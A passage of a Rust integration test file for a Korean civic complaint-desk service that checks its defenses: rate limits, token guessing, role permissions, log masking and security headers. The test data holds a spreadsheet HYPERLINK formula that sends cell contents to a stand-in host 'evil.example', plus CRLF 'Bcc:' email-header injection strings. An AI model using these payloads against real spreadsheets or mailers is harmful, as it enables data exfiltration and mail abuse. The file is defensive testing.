//! What a hostile or careless client meets: rate limits, floods of receipts,
//! input the mailer cannot use, and HTTP hygiene.

use reqwest::Method;
use serde_json::{json, Value};

use crate::helpers::{grievance, problem, read, spawn_app_with, TestApp};
use crate::on_both_backends;

async fn public_intake(app: &TestApp, body: &Value, forwarded_for: Option<&str>) -> reqwest::Response {
    let mut r = app.request(Method::POST, "/api/v1/cases").json(body);
    if let Some(ip) = forwarded_for {
        r = r.header("X-Forwarded-For", ip);
    }
    r.send().await.unwrap()
}

async fn track_with(app: &TestApp, receipt_no: &str, token: &str) -> reqwest::Response {
    app.request(Method::GET, &format!("/api/v1/track/{receipt_no}"))
        .header("X-Access-Token", token)
        .send()
        .await
        .unwrap()
}

async fn outbox_to(app: &TestApp, addr: &str) -> Vec<Value> {
    let (s, list) = app.admin_json(Method::GET, "/api/v1/outbox", None).await;
    assert_eq!(s, 200, "{list}");
    list["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["to"].as_str().unwrap().eq_ignore_ascii_case(addr))
        .cloned()
        .collect()
}

on_both_backends! {
    async fn public_requests_meet_a_limit_per_client_address(backend) {
        let Some(app) = spawn_app_with(backend, &[("CIVICDESK_RATE_LIMIT", "5")]).await else { return };
        let body = grievance("소음");
        let mut first = Value::Null;
        for i in 0..5 {
            // A client cannot escape by naming another address: no proxy is trusted.
            let (s, c) = read(public_intake(&app, &body, Some(&format!("198.51.100.{i}"))).await).await;
            assert_eq!(s, 201, "{c}");
            first = c;
        }
        let r = public_intake(&app, &body, None).await;
        let retry: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
        assert!((1..=60).contains(&retry), "Retry-After {retry}");
        let p = problem(r, 429).await;
        assert!(p["detail"].as_str().unwrap().contains("too many requests"), "{p}");
        // Tracking with a wrong token counts against the same budget.
        let receipt = first["receipt_no"].as_str().unwrap();
        problem(track_with(&app, receipt, "wrong").await, 429).await;
        // An operator's requests are neither counted nor limited.
        for _ in 0..8 {
            let (s, _) = app.admin_json(Method::POST, "/api/v1/cases", Some(&body)).await;
            assert_eq!(s, 201);
        }
        // A bad bearer token is no way around the limit.
        let r = app.request(Method::GET, &format!("/api/v1/track/{receipt}")).bearer_auth("not-a-token")
            .header("X-Access-Token", "wrong").send().await.unwrap();
        problem(r, 401).await;
        app.stop().await;
    }

    async fn wrong_tracking_tokens_meet_the_limit(backend) {
        let Some(app) = spawn_app_with(backend, &[("CIVICDESK_RATE_LIMIT", "20")]).await else { return };
        let (_, c) = app.admin_json(Method::POST, "/api/v1/cases", Some(&grievance("가로등"))).await;
        let receipt = c["receipt_no"].as_str().unwrap();
        let mut statuses = Vec::new();
        for i in 0..30 {
            statuses.push(track_with(&app, receipt, &format!("guess-{i}")).await.status().as_u16());
        }
        assert_eq!(statuses.iter().filter(|s| **s == 404).count(), 20, "{statuses:?}");
        assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 10, "{statuses:?}");
        // The citizen's page is limited too.
        let r = app.request(Method::GET, &format!("/track/{receipt}?token=x")).send().await.unwrap();
        assert_eq!(r.status(), 429);
        app.stop().await;
    }

    async fn a_trusted_proxy_names_the_client(backend) {
        let Some(app) = spawn_app_with(backend, &[("CIVICDESK_RATE_LIMIT", "2"), ("CIVICDESK_TRUSTED_PROXIES", "127.0.0.0/8, ::1")]).await else { return };
        let body = grievance("소음");
        for _ in 0..2 {
            assert_eq!(public_intake(&app, &body, Some("203.0.113.7")).await.status(), 201);
        }
        problem(public_intake(&app, &body, Some("203.0.113.7")).await, 429).await;
        // Another client behind the same proxy has its own budget; the last
        // untrusted hop is the client, whatever it claims before that.
        assert_eq!(public_intake(&app, &body, Some("203.0.113.7, 203.0.113.8")).await.status(), 201);
        assert_eq!(public_intake(&app, &body, Some("203.0.113.9")).await.status(), 201);
        app.stop().await;
    }

    async fn one_address_gets_a_bounded_number_of_receipts_a_day(backend) {
        let Some(app) = spawn_app_with(backend, &[("CIVICDESK_RECEIPTS_PER_ADDRESS", "3")]).await else { return };
        let mut cases = Vec::new();
        for (i, addr) in ["victim@example.org", "Victim@Example.org", "VICTIM@example.org", "victim@example.org", "victim@EXAMPLE.org"].iter().enumerate() {
            let mut b = grievance(&format!("광고 {i}"));
            b["citizen"]["email"] = json!(addr);
            let (s, c) = read(public_intake(&app, &b, None).await).await;
            assert_eq!(s, 201, "the case is still taken: {c}");
            cases.push(c);
        }
        assert_eq!(outbox_to(&app, "victim@example.org").await.len(), 3);
        // The note on a case without a receipt says why.
        let id = cases[4]["id"].as_str().unwrap();
        let (_, events) = app.admin_json(Method::GET, &format!("/api/v1/cases/{id}/events"), None).await;
        let note = events["items"].as_array().unwrap().iter().find(|e| e["type"] == "note").expect("a note");
        assert!(note["data"]["body"].as_str().unwrap().contains("no receipt email"), "{note}");
        // An operator recording a case for that citizen still sends the receipt.
        let mut b = grievance("전화 접수");
        b["citizen"]["email"] = json!("victim@example.org");
        let (s, _) = app.admin_json(Method::POST, "/api/v1/cases", Some(&b)).await;
        assert_eq!(s, 201);
        assert_eq!(outbox_to(&app, "victim@example.org").await.len(), 4);
        app.stop().await;
    }
}

/// Status of a GET (or a POST with a body) as the holder of `token`.
async fn status_as(app: &TestApp, token: &str, method: Method, path: &str, body: Option<Value>) -> (u16, Value) {
    let mut r = app.request(method, path).bearer_auth(token);
    if let Some(b) = body {
        r = r.json(&b);
    }
    read(r.send().await.unwrap()).await
}

on_both_backends! {
    async fn each_role_sees_and_does_what_its_role_allows(backend) {
        let Some(app) = spawn_app_with(backend, &[("CIVICDESK_SURVEY_SAMPLE_RATE", "1")]).await else { return };
        let roads = app.team_id("Roads").await;
        let env = app.team_id("Environment").await;
        let (agent_id, agent) = app.operator("agent", &[&roads]).await;
        let (_, manager) = app.operator("manager", &[&roads]).await;
        let (_, outsider) = app.operator("agent", &[&env]).await;
        let (_, caller) = app.operator("happycall", &[]).await;
        let admin = crate::helpers::ADMIN_TOKEN.to_string();

        let mut b = grievance("도로가 파였어요");
        b["category"] = json!("road-damage");
        let (_, open) = read(app.post_public("/api/v1/cases", &b).await).await;
        let open = open["id"].as_str().unwrap().to_string();
        // A resolved case of a citizen without email: on the happy-call worklist.
        b["citizen"] = json!({"name": "박전화", "phone": "010-2222-3333"});
        let (_, called) = read(app.post_public("/api/v1/cases", &b).await).await;
        let called = called["id"].as_str().unwrap().to_string();
        let (s, _) = status_as(&app, &agent, Method::POST, &format!("/api/v1/cases/{called}/assign"), Some(json!({"assignee_id": agent_id}))).await;
        assert_eq!(s, 200);
        let (s, _) = status_as(&app, &agent, Method::POST, &format!("/api/v1/cases/{called}/notes"), Some(json!({"body": "내부 메모: 민원인이 화가 많이 남"}))).await;
        assert_eq!(s, 200);
        let (s, _) = status_as(&app, &agent, Method::POST, &format!("/api/v1/cases/{called}/resolve"), Some(json!({"resolution": "보수했습니다."}))).await;
        assert_eq!(s, 200);

        let roles = [("admin", &admin), ("manager", &manager), ("agent", &agent), ("outsider", &outsider), ("happycall", &caller)];
        // Expected status per role, in the order above.
        let table: Vec<(Method, String, Option<Value>, [u16; 5])> = vec![
            (Method::GET, "/api/v1/cases".into(), None, [200, 200, 200, 200, 403]),
            (Method::GET, format!("/api/v1/cases/{open}"), None, [200, 200, 200, 403, 403]),
            (Method::GET, format!("/api/v1/cases/{open}/events"), None, [200, 200, 200, 403, 403]),
            (Method::GET, format!("/api/v1/cases/{called}"), None, [200, 200, 200, 403, 200]),
            (Method::GET, format!("/api/v1/cases/{called}/events"), None, [200, 200, 200, 403, 200]),
            (Method::POST, format!("/api/v1/cases/{open}/notes"), Some(json!({"body": "확인"})), [200, 200, 200, 403, 403]),
            // Starting a resolved case: the status machine refuses the team (409), the role refuses the others.
            (Method::POST, format!("/api/v1/cases/{called}/start"), None, [409, 409, 409, 403, 403]),
            (Method::GET, "/api/v1/happy-calls".into(), None, [200, 200, 403, 403, 200]),
            (Method::GET, "/api/v1/surveys".into(), None, [200, 200, 200, 200, 403]),
            (Method::GET, "/api/v1/follow-ups".into(), None, [200, 200, 403, 403, 403]),
            (Method::GET, "/api/v1/stats/teams".into(), None, [200, 200, 403, 403, 403]),
            (Method::GET, "/api/v1/outbox".into(), None, [200, 403, 403, 403, 403]),
            (Method::GET, "/api/v1/operators".into(), None, [200, 403, 403, 403, 403]),
            (Method::POST, "/api/v1/teams".into(), Some(json!({"name": "새 팀"})), [201, 403, 403, 403, 403]),
        ];
        for (method, path, body, expected) in &table {
            for (i, (role, token)) in roles.iter().enumerate() {
                let (s, answer) = status_as(&app, token, method.clone(), path, body.clone()).await;
                assert_eq!(s, expected[i], "{role} {method} {path}: {answer}");
            }
        }

        // What the happy-call operator sees of the case on its worklist: the
        // contact and the public timeline, no internal note, no operator.
        let (_, case) = status_as(&app, &caller, Method::GET, &format!("/api/v1/cases/{called}"), None).await;
        assert_eq!(case["citizen"]["phone"], "010-2222-3333");
        assert!(case["assignee"].is_null(), "{case}");
        let (_, events) = status_as(&app, &caller, Method::GET, &format!("/api/v1/cases/{called}/events"), None).await;
        let text = events.to_string();
        assert!(!text.contains("내부 메모") && !text.contains("\"note\""), "{text}");
        assert!(!text.contains(&agent_id) && !text.contains("Test Operator"), "{text}");
        assert!(events["items"].as_array().unwrap().iter().any(|e| e["type"] == "resolved"));
        // The team sees the whole history.
        let (_, events) = status_as(&app, &agent, Method::GET, &format!("/api/v1/cases/{called}/events"), None).await;
        assert!(events.to_string().contains("내부 메모"));
        // Once answered, the case leaves the worklist and the happy-call operator's sight.
        let (s, _) = status_as(&app, &caller, Method::POST, &format!("/api/v1/cases/{called}/survey"), Some(json!({"process_score": 4, "result_score": 4, "channel": "phone"}))).await;
        assert_eq!(s, 201);
        let (s, _) = status_as(&app, &caller, Method::GET, &format!("/api/v1/cases/{called}"), None).await;
        assert_eq!(s, 403);
        app.stop().await;
    }
}

crate::both_backends! {
    async fn scorecard_exports_are_safe_in_a_spreadsheet_and_targets_read_as_set(app) {
        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
        let (s, team) = app.admin_json(Method::POST, "/api/v1/teams", Some(&json!({"name": evil}))).await;
        assert_eq!(s, 201, "{team}");
        let (s, _) = app.admin_json(Method::POST, "/api/v1/categories", Some(&json!({
            "code": "evil", "name": "악성", "kind": "grievance", "default_team_id": team["id"],
            "deadline": {"amount": 7, "unit": "days"}}))).await;
        assert_eq!(s, 201);
        // Three answered grievances: a target weighed by three responses.
        for i in 0..3 {
            let mut b = grievance(&format!("민원 {i}"));
            b["category"] = json!("evil");
            let (_, c) = app.admin_json(Method::POST, "/api/v1/cases", Some(&b)).await;
            let id = c["id"].as_str().unwrap();
            let (s, _) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/resolve"), Some(&json!({"resolution": "완료"}))).await;
            assert_eq!(s, 200);
            let (s, _) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/survey"),
                Some(&json!({"process_score": 5, "result_score": 4, "channel": "phone"}))).await;
            assert_eq!(s, 201);
        }
        let year = chrono::Utc::now().with_timezone(&chrono_tz::Asia::Seoul).format("%Y").to_string();
        let (s, _) = app.admin_json(Method::PUT, &format!("/api/v1/targets/{year}/grievance"), Some(&json!({"satisfaction_rate": 0.764}))).await;
        assert!(s == 200 || s == 201);

        let r = app.admin(Method::GET, "/api/v1/stats/teams").send().await.unwrap();
        let text = r.text().await.unwrap();
        let v: Value = serde_json::from_str(&text).unwrap();
        let row = v["items"].as_array().unwrap().iter().find(|t| t["team"]["name"] == evil).unwrap().to_string();
        assert!(row.contains("\"target\":0.764,"), "{row}");

        let r = app.admin(Method::GET, "/api/v1/stats/teams?format=csv").send().await.unwrap();
        let bytes = r.bytes().await.unwrap();
        let csv = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert!(csv.contains("'=HYPERLINK"), "{csv}");
        assert!(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"), "{csv}");
        assert!(csv.ends_with("\r\n") && csv.matches('\n').count() == csv.matches("\r\n").count(), "CRLF lines");
        let last = csv.trim_end().lines().last().unwrap();
        assert!(last.contains("합계 (total)"), "{last}");
        // Numbers stay numbers.
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let header = reader.headers().unwrap().clone();
        let resolved = header.iter().position(|h| h == "resolved").unwrap();
        let evil_row = reader.records().map(|r| r.unwrap()).find(|r| r[1].starts_with("'=")).unwrap();
        assert_eq!(&evil_row[resolved], "3");
    }
}

on_both_backends! {
    async fn careless_input_is_refused_with_the_field_named(backend) {
        let Some(owned) = spawn_app_with(backend, &[("CIVICDESK_BACKDATE_DAYS", "365")]).await else { return };
        let app = &owned;
        let cases = [
            (json!({"email": "a@[127.0.0.1]"}), "citizen.email"),
            (json!({"email": "\"a\r\nBcc: x\"@example.org"}), "citizen.email"),
            (json!({"name": "김민원\r\nBcc: x@evil.example", "email": "kim@example.org"}), "citizen.name"),
        ];
        for (citizen, field) in cases {
            let mut b = grievance("민원");
            for (k, v) in citizen.as_object().unwrap() {
                b["citizen"][k] = v.clone();
            }
            let p = problem(app.post_public("/api/v1/cases", &b).await, 422).await;
            assert_eq!(crate::helpers::field_names(&p), [field], "{p}");
        }
        let mut b = grievance("민원");
        b["description"] = json!("\u{200B}\u{202E}\u{200B} \u{FEFF}");
        let p = problem(app.post_public("/api/v1/cases", &b).await, 422).await;
        assert_eq!(crate::helpers::field_names(&p), ["description"]);

        // Back-dating is bounded: year 1 and 400 days ago are refused, and nothing is stored.
        let old = (chrono::Utc::now() - chrono::Duration::days(400)).to_rfc3339();
        for when in ["0001-01-01T09:00:00+09:00", old.as_str()] {
            let mut b = grievance("편지 접수");
            b["channel"] = json!("letter");
            b["received_at"] = json!(when);
            let (s, p) = app.admin_json(Method::POST, "/api/v1/cases", Some(&b)).await;
            assert_eq!((s, crate::helpers::field_names(&p)), (422, vec!["received_at".to_string()]), "{p}");
            assert!(p["errors"][0]["message"].as_str().unwrap().contains("365 days"), "{p}");
        }
        let (_, list) = app.admin_json(Method::GET, "/api/v1/cases", None).await;
        assert!(list["items"].as_array().unwrap().is_empty(), "nothing was taken");

        let (s, p) = app.admin_json(Method::POST, "/api/v1/teams", Some(&json!({"name": "팀\n이름"}))).await;
        assert_eq!((s, crate::helpers::field_names(&p)), (422, vec!["name".to_string()]));

        // An adopted proposal's plan is for the future.
        let mut b = grievance("자전거 도로를 늘려 주세요");
        b["kind"] = json!("proposal");
        b["category"] = json!("citizen-proposal");
        let (_, c) = app.admin_json(Method::POST, "/api/v1/cases", Some(&b)).await;
        let id = c["id"].as_str().unwrap();
        let seoul = chrono::Utc::now().with_timezone(&chrono_tz::Asia::Seoul).date_naive();
        let resolve = |date: chrono::NaiveDate| json!({"resolution": "채택합니다.", "outcome": "adopted", "planned_implementation_date": date});
        let (s, p) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/resolve"), Some(&resolve(seoul - chrono::Duration::days(1)))).await;
        assert_eq!((s, crate::helpers::field_names(&p)), (422, vec!["planned_implementation_date".to_string()]), "{p}");
        // Nor a plan for the year 10000 (which is not even a date with four digits): ten years at most.
        let (s, p) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/resolve"), Some(&json!({"resolution": "채택합니다.", "outcome": "adopted", "planned_implementation_date": "+10000-01-01"}))).await;
        assert_eq!((s, crate::helpers::field_names(&p)), (422, vec!["planned_implementation_date".to_string()]), "{p}");
        assert!(p.to_string().contains("within 10 years"), "{p}");
        let (s, p) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/resolve"), Some(&resolve(seoul + chrono::Months::new(121)))).await;
        assert_eq!((s, crate::helpers::field_names(&p)), (422, vec!["planned_implementation_date".to_string()]), "{p}");
        let (s, p) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/resolve"), Some(&resolve(seoul + chrono::Duration::days(30)))).await;
        assert_eq!(s, 200, "{p}");
        owned.stop().await;
    }
}

crate::both_backends! {
    async fn a_back_dated_case_gets_one_catch_up_notice(app) {
        // Recorded 95 days after it arrived by letter: three 30-day notices
        // were missed; the citizen gets one, and the next in 30 days.
        let mut b = grievance("오래된 편지");
        b["channel"] = json!("letter");
        b["received_at"] = json!((chrono::Utc::now() - chrono::Duration::days(95)).to_rfc3339());
        let (s, case) = app.admin_json(Method::POST, "/api/v1/cases", Some(&b)).await;
        assert_eq!(s, 201, "{case}");
        let id = case["id"].as_str().unwrap().to_string();
        let progress = || async {
            let (_, list) = app.admin_json(Method::GET, "/api/v1/outbox", None).await;
            list["items"].as_array().unwrap().iter().filter(|m| m["case_id"] == id.as_str() && m["kind"] == "progress").count()
        };
        let mut seen = 0;
        for _ in 0..100 {
            seen = progress().await;
            if seen > 0 {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert_eq!(seen, 1);
        // The worker looks every two seconds: give it three more looks.
        tokio::time::sleep(std::time::Duration::from_millis(6500)).await;
        assert_eq!(progress().await, 1, "one catch-up notice, not one per month missed");
    }
}

crate::both_backends! {
    async fn holds_count_whole_minutes(app) {
        let mut b = grievance("서류 보완");
        b["category"] = json!("noise");
        b["channel"] = json!("visit");
        b["received_at"] = json!((chrono::Utc::now() - chrono::Duration::days(10)).to_rfc3339());
        let (_, case) = app.admin_json(Method::POST, "/api/v1/cases", Some(&b)).await;
        let id = case["id"].as_str().unwrap().to_string();
        let (s, _) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/start"), None).await;
        assert_eq!(s, 200);
        let (s, _) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/hold"), Some(&json!({"reason": "서류 대기"}))).await;
        assert_eq!(s, 200);
        // The hold began a week ago at 10:00:00.5 in Seoul: working time since then has seconds to spare.
        let since = (chrono::Utc::now() - chrono::Duration::days(7)).date_naive().and_hms_milli_opt(1, 0, 0, 500).unwrap();
        app.sql(format!("UPDATE cases SET held_since = '{since}' WHERE id = '{id}'")).await;
        app.sql(format!("UPDATE case_holds SET started_at = '{since}' WHERE case_id = '{id}'")).await;
        let before = chrono::DateTime::parse_from_rfc3339(case["due_at"].as_str().unwrap()).unwrap();
        let (s, resumed) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/resume"), None).await;
        assert_eq!(s, 200, "{resumed}");
        let after = chrono::DateTime::parse_from_rfc3339(resumed["due_at"].as_str().unwrap()).unwrap();
        let (_, events) = app.admin_json(Method::GET, &format!("/api/v1/cases/{id}/events"), None).await;
        let ev = events["items"].as_array().unwrap().iter().find(|e| e["type"] == "resumed").unwrap().clone();
        let minutes = ev["data"]["held_working_minutes"].as_i64().unwrap();
        assert!(minutes > 0, "{ev}");
        let calendar = civicdesk::domain::calendar::Calendar::new(
            chrono_tz::Asia::Seoul,
            civicdesk::domain::holidays::korean_public_holidays(2024..=chrono::Datelike::year(&crate::helpers::seoul_today()) + 1).into_iter().map(|h| h.date),
        );
        let moved = calendar.working_seconds_between(before.to_utc(), after.to_utc());
        assert_eq!(moved, minutes * 60, "the due date moved by the working minutes the event says");
        assert_eq!(chrono::Timelike::second(&after), 0, "{after}");
    }
}

on_both_backends! {
    async fn the_log_holds_no_personal_data_or_token(backend) {
        let Some((db_url, _file)) = crate::helpers::new_database(backend, true).await else { return };
        let smtp = crate::smtp::SmtpServer::rejecting();
        let (base, mut child, lines) = crate::helpers::serve_binary(&db_url, &[
            ("CIVICDESK_SMTP_URL", format!("smtp://127.0.0.1:{}", smtp.port)),
            ("CIVICDESK_SURVEY_SAMPLE_RATE", "1".into()),
            ("CIVICDESK_MAIL_RETRY_BASE_MS", "50".into()),
            ("CIVICDESK_MAIL_MAX_ATTEMPTS", "3".into()),
        ]);
        crate::helpers::wait_for_line(&lines, "listening on", 1).await;
        let client = reqwest::Client::new();
        let (name, email, phone) = ("로그검사시민", "logcheck.person@example.org", "010-9876-5432");
        let mut b = grievance("로그 검사");
        b["citizen"] = json!({"name": name, "email": email, "phone": phone});
        let (s, case) = read(client.post(format!("{base}/api/v1/cases")).json(&b).send().await.unwrap()).await;
        assert_eq!(s, 201, "{case}");
        let (no, token, id) = (case["receipt_no"].as_str().unwrap(), case["access_token"].as_str().unwrap(), case["id"].as_str().unwrap());
        // The citizen follows the links; a stranger guesses.
        assert_eq!(client.get(format!("{base}/track/{no}?token={token}")).send().await.unwrap().status(), 200);
        assert_eq!(client.get(format!("{base}/api/v1/track/{no}")).header("X-Access-Token", token).send().await.unwrap().status(), 200);
        assert_eq!(client.get(format!("{base}/track/{no}?token=guess-{token}")).send().await.unwrap().status(), 404);
        // The team answers; the survey email is refused like the receipt.
        let r = client.post(format!("{base}/api/v1/cases/{id}/resolve")).bearer_auth(crate::helpers::ADMIN_TOKEN)
            .json(&json!({"resolution": "처리했습니다"})).send().await.unwrap();
        assert_eq!(r.status(), 200);
        crate::helpers::wait_for_line(&lines, "email failed for good", 2).await;
        let _ = child.kill();
        let _ = child.wait();

        let log = lines.lock().unwrap().join("\n");
        assert!(log.contains("l***@example.org"), "the refusal is logged, masked: {log}");
        // The phone's digits however written, but not four digits alone: those turn up in
        // timestamps and durations ("…49.709876Z", "2.987655ms") and made this test flaky.
        for secret in [email, "logcheck.person", name, phone, "98765432", "9876-5432", token, crate::helpers::ADMIN_TOKEN] {
            assert!(!log.contains(secret), "the log holds {secret:?}:\n{log}");
        }
        assert!(!log.contains('\u{1b}'), "no colour codes off a terminal");
    }
}

crate::both_backends! {
    async fn http_manners(app) {
        // HEAD wherever GET works, without a body.
        let r = app.request(Method::HEAD, "/healthz").send().await.unwrap();
        assert_eq!(r.status(), 200);
        assert!(r.bytes().await.unwrap().is_empty());
        let r = app.admin(Method::HEAD, "/api/v1/cases").send().await.unwrap();
        assert_eq!(r.status(), 200);
        // 405 names what is allowed.
        let r = app.request(Method::PUT, "/healthz").send().await.unwrap();
        assert_eq!(r.headers()["allow"], "GET, HEAD");
        problem(r, 405).await;
        let r = app.admin(Method::DELETE, "/api/v1/cases").send().await.unwrap();
        assert_eq!(r.headers()["allow"], "GET, HEAD, POST");
        problem(r, 405).await;
        // Every response: no framing, no sniffing; pages with tokens are not cached or referred.
        let (_, case) = read(app.post_public("/api/v1/cases", &grievance("헤더")).await).await;
        let page = case["tracking_url"].as_str().unwrap().replace("http://civicdesk.test", "");
        for path in ["/healthz", "/api/v1/nothing", page.as_str()] {
            let r = app.request(Method::GET, path).send().await.unwrap();
            let h = r.headers();
            assert_eq!(h["x-frame-options"], "DENY", "{path}");
            assert_eq!(h["content-security-policy"], "frame-ancestors 'none'", "{path}");
            assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        }
        let r = app.request(Method::GET, &page).send().await.unwrap();
        assert_eq!(r.headers()["cache-control"], "no-store");
        assert_eq!(r.headers()["referrer-policy"], "no-referrer");
        // The office's pages let the browser name their origin on their own forms' posts.
        let r = app.request(Method::GET, "/office/login").send().await.unwrap();
        assert_eq!(r.headers()["referrer-policy"], "same-origin");
        assert_eq!(r.headers()["x-frame-options"], "DENY");

        // 422s speak the API's words, not Rust's.
        let mut b = grievance("x");
        b["title"] = json!(5);
        let p = problem(app.post_public("/api/v1/cases", &b).await, 422).await;
        assert_eq!(p["errors"][0]["message"], "must be text (a JSON string) (got 5)");
        let p = problem(app.post_public("/api/v1/cases", &json!([1, 2])).await, 422).await;
        assert_eq!(p["errors"][0]["message"], "must be an object (got a list)");
        let (s, p) = app.admin_json(Method::POST, "/api/v1/targets", Some(&json!({"year": "next", "kind": "grievance", "satisfaction_rate": 0.7}))).await;
        assert_eq!(s, 422);
        let text = p.to_string();
        for rust in ["i32", "i64", "u32", "struct", "expected"] {
            assert!(!text.contains(rust), "{rust} in {text}");
        }
        let p = problem(app.admin(Method::GET, "/api/v1/cases?limit=many").send().await.unwrap(), 400).await;
        assert!(!p["detail"].as_str().unwrap().contains("invalid digit"), "{p}");
    }

    async fn the_citizens_links_open_in_their_language(app) {
        let (_, ko) = read(app.post_public("/api/v1/cases", &grievance("가로등이 꺼졌어요")).await).await;
        let url = ko["tracking_url"].as_str().unwrap();
        assert_eq!(url, format!("http://civicdesk.test/track/{}?token={}", ko["receipt_no"].as_str().unwrap(), ko["access_token"].as_str().unwrap()));
        let r = app.request(Method::GET, &url.replace("http://civicdesk.test", "")).send().await.unwrap();
        assert_eq!(r.status(), 200);
        assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/html"));
        let html = r.text().await.unwrap();
        assert!(html.contains("lang=\"ko\""));
        assert!(html.contains("접수"), "the status in Korean");
        assert!(html.contains("년 ") && html.contains("월 ") && html.contains("일 "), "times as people read them");
        assert!(!html.contains("+09:00") && !html.contains("received"), "no RFC 3339, no English status: {html}");

        let mut b = grievance("Streetlight out");
        b["locale"] = json!("en");
        let (_, en) = read(app.post_public("/api/v1/cases", &b).await).await;
        let url = en["tracking_url"].as_str().unwrap();
        assert!(url.ends_with("&lang=en"), "{url}");
        let html = app.request(Method::GET, &url.replace("http://civicdesk.test", "")).send().await.unwrap().text().await.unwrap();
        assert!(html.contains("lang=\"en\"") && html.contains("Received"), "{html}");
    }
}

on_both_backends! {
    async fn emails_link_to_pages_in_the_citizens_language_and_the_team_alert_to_no_api(backend) {
        let smtp = crate::smtp::SmtpServer::start();
        let url = format!("smtp://127.0.0.1:{}", smtp.port);
        let Some(app) = spawn_app_with(backend, &[("CIVICDESK_SMTP_URL", url.as_str()), ("CIVICDESK_SURVEY_SAMPLE_RATE", "1")]).await else { return };
        let team = app.team_id("Roads").await;
        let (s, _) = app.admin_json(Method::PATCH, &format!("/api/v1/teams/{team}"), Some(&json!({"email": "roads@city.example"}))).await;
        assert_eq!(s, 200);
        let mut b = grievance("Pothole on Main Street");
        b["locale"] = json!("en");
        b["category"] = json!("road-damage");
        b["citizen"]["email"] = json!("jane@example.org");
        let (_, case) = read(app.post_public("/api/v1/cases", &b).await).await;
        let receipt = smtp.wait_for(1, |m| m.to.contains(&"jane@example.org".to_string())).await;
        assert!(receipt[0].text.contains(&format!("/track/{}?token=", case["receipt_no"].as_str().unwrap())), "{}", receipt[0].text);
        assert!(receipt[0].text.contains("&lang=en"), "{}", receipt[0].text);
        let id = case["id"].as_str().unwrap();
        let (s, _) = app.admin_json(Method::POST, &format!("/api/v1/cases/{id}/resolve"), Some(&json!({"resolution": "Fixed."}))).await;
        assert_eq!(s, 200);
        let survey = smtp.wait_for(1, |m| m.text.contains("/s/")).await;
        let token = survey[0].text.split("/s/").nth(1).unwrap().split(['?', '"', '\r', '\n', '<']).next().unwrap().to_string();
        assert!(survey[0].text.contains(&format!("/s/{token}?lang=en")), "{}", survey[0].text);
        // A dissatisfied answer alerts the team: no link to an API a mail client cannot open.
        let (s, _) = app.admin_json(Method::POST, &format!("/api/v1/surveys/{token}"), Some(&json!({"process_score": 1, "result_score": 2}))).await;
        assert_eq!(s, 201);
        let alert = smtp.wait_for(1, |m| m.to.contains(&"roads@city.example".to_string())).await;
        let text = &alert[0].text;
        assert!(!text.contains("http://civicdesk.test/api/"), "{text}");
        let (_, follow_ups) = app.admin_json(Method::GET, "/api/v1/follow-ups", None).await;
        let follow_up = follow_ups["items"][0]["id"].as_str().unwrap();
        assert!(text.contains(follow_up), "says which follow-up: {text}");
        app.stop().await;
    }
}

on_both_backends! {
    async fn a_stalled_body_is_cut_off(backend) {
        let Some(app) = spawn_app_with(backend, &[("CIVICDESK_BODY_TIMEOUT_SECS", "1")]).await else { return };
        let addr = app.base.trim_start_matches("http://").to_string();
        let started = std::time::Instant::now();
        let answer = tokio::task::spawn_blocking(move || {
            use std::io::{Read, Write};
            let mut s = std::net::TcpStream::connect(addr).unwrap();
            s.set_read_timeout(Some(std::time::Duration::from_secs(10))).unwrap();
            // Promises 100 bytes, sends 12, then waits.
            s.write_all(b"POST /api/v1/cases HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"kind\": \"gr").unwrap();
            let mut buf = vec![0u8; 4096];
            let n = s.read(&mut buf).unwrap_or(0);
            String::from_utf8_lossy(&buf[..n]).to_string()
        })
        .await
        .unwrap();
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
        assert!(answer.contains("application/problem+json"), "{answer}");
        assert!(started.elapsed() < std::time::Duration::from_secs(5));
        let (_, list) = app.admin_json(Method::GET, "/api/v1/cases", None).await;
        assert!(list["items"].as_array().unwrap().is_empty());
        app.stop().await;
    }
}

/// Sends raw bytes over one connection and returns the whole answer.
async fn raw_http(app: &TestApp, request: Vec<u8>) -> String {
    let addr = app.base.trim_start_matches("http://").to_string();
    tokio::task::spawn_blocking(move || {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        s.set_read_timeout(Some(std::time::Duration::from_secs(10))).unwrap();
        s.write_all(&request).unwrap();
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out);
        String::from_utf8_lossy(&out).to_string()
    })
    .await
    .unwrap()
}

crate::both_backends! {
    async fn raw_utf8_in_a_query_is_understood(app) {
        let (s, _) = app.admin_json(Method::POST, "/api/v1/cases", Some(&grievance("밤샘 공사 소음"))).await;
        assert_eq!(s, 201);
        let auth = format!("Authorization: Bearer {}\r\n", crate::helpers::ADMIN_TOKEN);
        let found = raw_http(app, format!("GET /api/v1/cases?q=소음 HTTP/1.1\r\nHost: x\r\n{auth}Connection: close\r\n\r\n").into_bytes()).await;
        assert!(found.starts_with("HTTP/1.1 200"), "{found}");
        assert!(found.contains("밤샘 공사 소음"), "{found}");
        let bad = raw_http(app, format!("GET /api/v1/cases?status=소음 HTTP/1.1\r\nHost: x\r\n{auth}Connection: close\r\n\r\n").into_bytes()).await;
        assert!(bad.starts_with("HTTP/1.1 400"), "{bad}");
        assert!(bad.contains("application/problem+json") && bad.contains("소음"), "{bad}");
